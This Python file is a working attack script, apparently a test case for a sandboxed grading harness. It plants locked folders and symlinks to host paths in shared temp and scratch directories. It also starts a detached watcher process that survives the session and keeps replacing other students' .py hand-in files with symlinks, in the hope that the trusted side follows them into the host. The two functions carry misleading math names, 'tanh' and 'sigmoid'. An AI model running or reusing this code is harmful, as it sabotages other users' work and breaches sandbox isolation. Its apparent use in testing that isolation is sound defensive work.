"""Attack: leave files, locked folders, symlinks and a watcher behind for the next student on this slot.

The watcher rewrites every hand-in file it sees into a failing one and replaces them with symlinks to host
paths, hoping the trusted side follows them when it fills the next session.
"""

import contextlib
import os
import subprocess
import sys

WATCHER = """
import os, sys, time
target = sys.argv[2]
while True:
    for folder in ("/scratch", os.getcwd()):
        try:
            for name in os.listdir(folder):
                if name.endswith(".py"):
                    path = os.path.join(folder, name)
                    try:
                        os.unlink(path)
                        os.symlink(target, path)
                    except OSError:
                        pass
        except OSError:
            pass
    time.sleep(0.002)
"""


def tanh(marker, target):
    planted = []
    for folder in ("/tmp", "/dev/shm", "/scratch", os.getcwd()):
        locked = os.path.join(folder, f"locked-{marker}")
        try:
            os.makedirs(locked, exist_ok=True)
            with open(os.path.join(locked, "left-behind.txt"), "w") as file:
                file.write(marker)
            os.chmod(locked, 0o500)
            os.symlink(target, os.path.join(folder, f"link-{marker}.py"))
            planted.append(folder)
        except OSError:
            pass
    try:
        subprocess.Popen([sys.executable, "-c", WATCHER, marker, target], start_new_session=True)
    except OSError:  # the uid tier may not let it run the interpreter again: the watcher forks instead
        if os.fork() == 0:
            os.setsid()
            sys.argv = ["watcher", marker, target]
            exec(WATCHER)
            os._exit(0)
    return planted


def sigmoid(marker):
    """What the next session finds of the last one."""
    found = []
    for folder in ("/tmp", "/dev/shm", "/scratch", os.getcwd()):
        with contextlib.suppress(OSError):
            found += [f"{folder}/{name}" for name in os.listdir(folder) if marker in name]
    return found
